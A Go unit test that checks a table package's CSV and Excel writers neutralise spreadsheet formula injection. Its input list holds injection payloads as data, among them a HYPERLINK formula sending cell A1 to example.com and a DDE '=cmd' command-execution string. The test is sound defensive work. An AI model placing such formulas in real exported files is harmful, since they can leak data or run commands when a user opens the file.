package table_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"madoguchi/triage/table"
)

// formulas are what a spreadsheet would calculate, ask a server for, or run.
var formulas = []string{"=1+1", `=HYPERLINK("http://example.com/?"&A1,"見る")`, "+81 90", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠x",
	`=cmd|' /C calc'!A0`, "\n=1"}

func TestNothingIsAFormula(t *testing.T) {
	data := table.Table{Name: "件数", Head: []string{"事案", "=見出し"}}
	for _, f := range formulas {
		data.Rows = append(data.Rows, []string{f, "ふつうの言葉"})
	}
	var out bytes.Buffer
	if err := table.WriteCSV(&out, data); err != nil {
		t.Fatal(err)
	}
	text, bom := strings.CutPrefix(out.String(), "\ufeff")
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || !bom || len(lines) != len(formulas)+1 {
		t.Fatalf("the CSV: %d lines, mark %t, %v", len(lines), bom, err)
	}
	for _, line := range lines {
		for _, cell := range line {
			if strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") {
				t.Errorf("a cell of the CSV begins %q", cell)
			}
		}
	}
	out.Reset()
	if err := table.WriteBook(&out, data, table.Table{Name: "空", Head: []string{"なし"}}); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range formulas {
		at, err := excelize.CoordinatesToCellName(1, i+2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := book.GetCellFormula("件数", at)
		if err != nil || formula != "" {
			t.Errorf("%q became the formula %q, %v", want, formula, err)
		}
		if got, err := book.GetCellValue("件数", at); err != nil || strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("%q became %q, %v", want, got, err)
		}
	}
	if names := book.GetSheetList(); len(names) != 2 {
		t.Errorf("the sheets are %q", names)
	}
}
